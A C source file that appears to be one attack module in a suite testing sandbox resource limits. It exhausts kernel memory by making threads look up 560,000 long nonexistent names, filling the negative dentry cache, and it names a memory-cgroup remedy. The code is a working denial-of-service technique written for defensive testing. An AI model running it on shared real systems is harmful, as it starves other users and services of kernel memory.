// SPDX-License-Identifier: MIT
/*
 * absent-names.c - a memory bomb of what is not there.
 *
 * Goal: more memory than the budget.
 * Means: the kernel remembers names that were looked up in vain, so that the next one who asks has the
 * answer at once: 192 bytes each, and the name, if it is a long one. Asking needs no right but to
 * search the folder, nothing is made, and no process holds what grows; it stays when all have ended,
 * until the kernel needs memory. Not on tmpfs, which forgets such names: on a disk's file system.
 */
#include "attacks/attack.h"

#include <errno.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>

#define FOLDER "/usr/share/"

enum { NAME = 250, NAMES = 560000, THREADS = 4 }; /* of some 700 bytes: 380 MiB */

static const struct brief *brief;
static char thread_refused[1];

static void *ask(void *from)
{
	char path[sizeof(FOLDER) + NAME + 1] = FOLDER, *name = path + strlen(FOLDER);
	struct stat st;

	memset(name, 'n', NAME);
	for (size_t i = (size_t)from; i < NAMES; i += THREADS) {
		char digits[40];

		/* Of this run alone: another one's are remembered already. */
		memcpy(name, digits, (size_t)snprintf(digits, sizeof(digits), "%.8s-%zu-", brief->name, i));
		if (stat(path, &st) == 0 || errno != ENOENT)
			return thread_refused;
	}
	return NULL;
}

static enum claim run(const struct brief *b)
{
	pthread_t thread[THREADS];
	void *refused = NULL, *one;
	size_t n = 0;

	brief = b;
	attempting(b);
	while (n < THREADS && !pthread_create(&thread[n], NULL, ask, (void *)n))
		n++;
	for (size_t i = 0; i < n; i++) {
		pthread_join(thread[i], &one);
		refused = refused ? refused : one;
	}
	return refused || n < THREADS ? denied(n < THREADS ? "pthread_create" : "stat") : hold();
}

const struct attack attack = {
	.effect = "more of the kernel's memory than the budget",
	.means = "560000 long names that lead nowhere, looked up",
	.oracle = "usage:memory",
	.attack_id = "T1499.001, CWE-770",
	.remedy = "a memory cgroup with kernel memory: nothing else bounds what others remember",
	.refs = (const char *const[]){ "Documentation/admin-guide/sysctl/fs.rst: dentry-state", NULL },
	.run = run,
};
